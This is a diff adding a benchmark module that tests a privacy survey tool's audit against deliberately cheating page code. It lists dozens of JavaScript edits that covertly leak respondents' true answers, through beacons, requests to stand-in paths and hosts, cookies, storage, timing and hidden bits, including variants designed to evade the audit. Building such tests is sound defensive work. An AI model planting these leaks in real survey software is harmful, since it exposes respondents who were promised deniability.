@@ -1,0 +1,329 @@
+"""Programs that cheat, and what an audit says of each: the table in `docs/security.md`.
+
+Each is the real program with a small alteration, served with hashes and a policy that match, as an
+operator could. What is true is what `truths` holds when the report is sent. `python -m
+benchmarks.cheats` audits and verifies each of them; names after it choose some.
+"""
+
+from __future__ import annotations
+
+import shutil
+import sys
+from collections.abc import Iterator
+from contextlib import ExitStack, contextmanager
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Final
+from unittest.mock import patch
+
+from benchmarks.measuring import folder
+from deniable.cli.auditing import audit_page
+from deniable.cli.verify import compare
+from deniable.client.audit.engine import BROWSER_FOLDER
+from deniable.server.loopback import loopback
+from deniable.server.respondent import headers, pages
+from deniable.survey import Survey
+from deniable.survey_file import read
+
+SURVEY: Final = Path(__file__).parents[1] / "examples" / "doping.yaml"
+
+PAIRS: Final = 4
+"""Pairs of visits of each program; of one that only a statistic finds, `MORE`."""
+
+MORE: Final = 24
+
+ANYTHING: Final = ("Content-Security-Policy", "default-src * data: blob: 'unsafe-inline'")
+"""A policy that is none."""
+
+NOTHING: Final = "nothing"
+"""What the audit says where it finds nothing wrong."""
+
+_PAUSE: Final = "how soon it sends depends on what is true"
+_SEND: Final = ("page/questionnaire.js", "  send(truths) {\n")
+_START: Final = ("page/main.js", "start();\n")
+
+
+@dataclass(frozen=True)
+class Cheat:
+    """A way to cheat.
+
+    Parameters
+    ----------
+    edits : tuple of (str, str, str)
+        Of the browser's modules: the file, a text that is there once, and what takes its place.
+    said : str
+        What an audit of the page says, in part; `NOTHING` where it cannot find it.
+    is_allowed : bool
+        Whether the page comes with a policy that allows everything.
+    """
+
+    edits: tuple[tuple[str, str, str], ...]
+    said: str
+    is_allowed: bool = False
+
+    @property
+    def pairs(self) -> int:
+        """How many pairs of visits find it."""
+        return MORE if self.said == _PAUSE else PAIRS
+
+
+def _sending(code: str, said: str, *, is_allowed: bool = False) -> Cheat:
+    """Do something when the report is sent."""
+    file, text = _SEND
+    return Cheat(((file, text, f"{text}    {code}\n"),), said, is_allowed)
+
+
+def _starting(code: str, said: str, *, is_allowed: bool = False) -> Cheat:
+    """Do something when the page opens."""
+    file, text = _START
+    return Cheat(((file, text, f"{code}\n{text}"),), said, is_allowed)
+
+
+_RANDOMISED: Final = "randomise(survey, truths, words, this.kept, asked, this.ready)"
+_MAKE: Final = f"return makeReport(survey, id, {_RANDOMISED});"
+_LEAK: Final = "`/s/doping/told?${truths}`"
+_TOLD: Final = "/s/doping/told beside the report"
+_PARITY: Final = "id.slice(0, -1) + ((parseInt(id.slice(-1), 16) & 14) | truths[0]).toString(16)"
+
+
+def _reporting(code: str, said: str) -> Cheat:
+    """Make another report than the modules do."""
+    return Cheat((("page/questionnaire.js", _MAKE, code),), said)
+
+
+CHEATS: Final[dict[str, Cheat]] = {
+    "its modules are honest, the page sends truths": _reporting(
+        "return makeReport(survey, id, truths);", "a message is"
+    ),
+    "truths, unless `navigator.webdriver` is set": _reporting(
+        f"return makeReport(survey, id, navigator.webdriver ? {_RANDOMISED} : truths);",
+        "a message is",
+    ),
+    "the truth in the last bit of the report's id": _reporting(
+        f"return makeReport(survey, {_PARITY}, {_RANDOMISED});", "a message is"
+    ),
+    "the same, unless a word lies on a threshold": _reporting(
+        "let sum = 0;\n"
+        "const ends = survey.items[0].weights.flatMap((row) => row.map((one) => (sum += one)));\n"
+        "const near = ends.some((end) => Math.abs((end % 2 ** 32) - words[0]) < 2);\n"
+        f"return makeReport(survey, near ? id : {_PARITY}, {_RANDOMISED});",
+        "a message is",
+    ),
+    "the order of the keys in the message": _reporting(
+        f"const made = {_MAKE.removeprefix('return ')}\n"
+        "return truths[0] ? Object.fromEntries(Object.entries(made).reverse()) : made;",
+        "a message is",
+    ),
+    "the length of the message": _reporting(
+        f"const made = {_MAKE.removeprefix('return ')}\n"
+        "return truths[0] ? { ...made, more: 1 } : made;",
+        "whatever is true",
+    ),
+    "a header of the request": Cheat(
+        (
+            ("page/questionnaire.js", _SEND[1], f"{_SEND[1]}    globalThis.told = truths[0];\n"),
+            (
+                "core/submission.js",
+                '"Content-Type": "application/json"',
+                '"Content-Type": globalThis.told ? "application/json" : "application/json; v=1"',
+            ),
+        ),
+        "a request differs in more than its message",
+    ),
+    "labels that stand at each other's answers": Cheat(
+        (
+            (
+                "page/choices.js",
+                "row(input, texts[order[place]])",
+                "row(input, texts[texts.length - 1 - order[place]])",
+            ),
+        ),
+        "a message is",
+    ),
+    "chance of `Math.random`": Cheat(
+        (
+            (
+                "core/chance.js",
+                "  crypto.getRandomValues(words);",
+                "  words.forEach((_, at) => (words[at] = Math.random() * 2 ** 32));",
+            ),
+        ),
+        "Math.random was called",
+    ),
+    "noise that is drawn anew when it is sent": _sending(
+        "crypto.getRandomValues(this.chance.words);", "it draws random words after the first answer"
+    ),
+    "a beacon": _sending(f"navigator.sendBeacon({_LEAK});", _TOLD),
+    "a beacon when the page is left": _sending(
+        f'addEventListener("pagehide", () => navigator.sendBeacon({_LEAK}));',
+        "/s/doping/told when it is left",
+    ),
+    "a request of its own (fetch)": _sending(f"void fetch({_LEAK});", _TOLD),
+    "a request of its own (XHR)": _sending(
+        f'const told = new XMLHttpRequest(); told.open("GET", {_LEAK}); told.send();', _TOLD
+    ),
+    "the report twice": _sending(
+        "if (truths[0]) void deliver(this.session, this.report(truths), () => []);",
+        "it sends more than one report",
+    ),
+    "an event source": _sending(f"new EventSource({_LEAK});", "it makes a EventSource"),
+    "a web socket": _sending(f"new WebSocket({_LEAK});", "it makes a WebSocket"),
+    "a call (WebRTC)": _sending(
+        'const call = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:9" }] });\n'
+        'call.createDataChannel("told"); void call.setLocalDescription();',
+        "it makes a RTCPeerConnection",
+    ),
+    "an image": _sending(f"new Image().src = {_LEAK};", _TOLD, is_allowed=True),
+    "a picture behind a box that is ticked": _starting(
+        "const sheet = new CSSStyleSheet();\n"
+        'sheet.replaceSync("main:has(:checked) { background: url(/s/doping/told) }");\n'
+        "document.adoptedStyleSheets = [sheet];",
+        "/s/doping/told while questions are answered",
+        is_allowed=True,
+    ),
+    "a picture that is loaded ahead": _sending(
+        'const link = document.createElement("link"); link.rel = "prefetch";\n'
+        f"link.href = {_LEAK}; document.head.append(link);",
+        "/s/doping/told",
+        is_allowed=True,
+    ),
+    "a connection to a name that tells": _sending(
+        'const link = document.createElement("link"); link.rel = "preconnect";\n'
+        "link.href = `https://told-${truths[0]}.example`; document.head.append(link);",
+        "it opens a connection by another way",
+    ),
+    "a frame": _sending(
+        f'const frame = document.createElement("iframe"); frame.src = {_LEAK};\n'
+        "document.body.append(frame);",
+        "it opens a frame of its own",
+        is_allowed=True,
+    ),
+    "another window": _sending(f"window.open({_LEAK});", "it opens a page of its own"),
+    "another page": _sending(f"location.href = {_LEAK};", "/s/doping/told"),
+    "a file that is saved": _sending(
+        'const link = document.createElement("a"); link.download = `${truths[0]}.txt`;\n'
+        'link.href = URL.createObjectURL(new Blob([""])); link.click();',
+        "it saves a file by itself",
+    ),
+    "a worker": _sending('new Worker("/client/leave.js");', "it makes a Worker", is_allowed=True),
+    "a service worker": _sending(
+        'if (truths[0]) void navigator.serviceWorker.register("/client/leave.js").catch(() => {});',
+        "it opens a service_worker of its own",
+        is_allowed=True,
+    ),
+    "`localStorage`": _sending(
+        'localStorage.setItem("told", String(truths[0]));', "localStorage depends on what is true"
+    ),
+    "`sessionStorage`": _sending(
+        'sessionStorage.setItem("told", String(truths[0]));',
+        "sessionStorage depends on what is true",
+    ),
+    "a database": _sending(
+        "if (truths[0]) indexedDB.open(`told`);", "it keeps a cookie, database or cache"
+    ),
+    "a cookie": _sending(
+        "document.cookie = `told=${truths[0]}; path=/`;", "it keeps a cookie, database or cache"
+    ),
+    "the address": _sending(
+        'history.replaceState(history.state, "", `#${truths[0]}`);',
+        "the browser's history depends on what is true",
+    ),
+    "the page's title": _sending(
+        'document.title += truths[0] ? " " : ".";', "the browser's history depends on what is true"
+    ),
+    "the window's name": _sending(
+        "window.name = `told ${truths[0]}`;", "the window's name depends on what is true"
+    ),
+    "a pause by a clock": _sending(
+        "if (truths[0] && !this.waited) {\n"
+        "  this.waited = true; setTimeout(() => this.send(truths), 300); return;\n}",
+        "it sets a clock by setTimeout",
+    ),
+    "a pause without a clock": _sending(
+        "for (const end = performance.now() + 60 * truths[0]; performance.now() < end; );",
+        _PAUSE,
+    ),
+    "a request ten minutes later": _sending(
+        f"setTimeout(() => fetch({_LEAK}), 600000);", "it sets a clock by setTimeout"
+    ),
+    "truths, once in a thousand": _reporting(
+        f"return makeReport(survey, id, words[0] % 1000 === 7 ? truths : {_RANDOMISED});", NOTHING
+    ),
+    "truths, of whoever has this link with `#anna`": _reporting(
+        f'return makeReport(survey, id, location.hash === "#anna" ? truths : {_RANDOMISED});',
+        NOTHING,
+    ),
+    "truths, unless it finds the audit's traps": _reporting(
+        "const native = `${crypto.getRandomValues}`.includes('getRandomValues');\n"
+        f"return makeReport(survey, id, native ? truths : {_RANDOMISED});",
+        NOTHING,
+    ),
+}
+
+
+@contextmanager
+def serving(cheat: Cheat, survey: Survey, path: Path) -> Iterator[str]:
+    """Serve a survey with a program that cheats, as an operator can: with hashes that match.
+
+    Parameters
+    ----------
+    cheat : Cheat
+    survey : Survey
+    path : Path
+        An empty folder.
+
+    Yields
+    ------
+    str
+        The survey's link.
+    """
+    copy = path / "browser"
+    shutil.copytree(BROWSER_FOLDER, copy)
+    for name, text, other in cheat.edits:
+        source = (copy / name).read_text(encoding="utf-8")
+        if source.count(text) != 1:
+            raise ValueError(f"{name}: expected {text!r} once, found {source.count(text)} times")
+        (copy / name).write_text(source.replace(text, other), encoding="utf-8")
+    with ExitStack() as stack:
+        # Only this server cheats, and none that is started later to compare it with.
+        with ExitStack() as cheating:
+            for module in (headers, pages):
+                cheating.enter_context(patch.object(module, "BROWSER_FOLDER", copy))
+            if cheat.is_allowed:
+                cheating.enter_context(patch.object(headers, "policy", lambda _: ANYTHING))
+            link = stack.enter_context(loopback(survey))
+        yield link
+
+
+def row(name: str, seed: int = 1) -> tuple[str, str, str]:
+    """Audit and verify a program.
+
+    Returns
+    -------
+    cheat, audit, verify : str
+        What both said.
+    """
+    survey = read(SURVEY.read_text(encoding="utf-8")).survey
+    with folder() as path, serving(CHEATS[name], survey, path) as link:
+        differing = [one.name for one in compare(link) if one.difference and one.found]
+        found = audit_page(survey, link, CHEATS[name].pairs, seed, lambda *_: None)
+    address = link.removesuffix(f"/s/{survey.slug}")
+    failures = [failure.replace(address, "") for failure in found.failures]
+    expected = (failure for failure in failures if CHEATS[name].said in failure)
+    said = next(expected, failures[0] if failures else NOTHING)
+    if said.startswith("a message is "):
+        said = "a message is not the expected one"
+    some = [one.removeprefix("the page: ") for one in differing if "/" not in one]
+    return name, said, ", ".join(some) or NOTHING
+
+
+def main(names: list[str]) -> None:
+    """Print the table, as in the documentation."""
+    print("| a program that tells by | the audit says, for example | `verify` names |")
+    print("|---|---|---|")
+    for name in names or CHEATS:
+        print(f"| {' | '.join(row(name))} |", flush=True)
+
+
+if __name__ == "__main__":
+    main(sys.argv[1:])
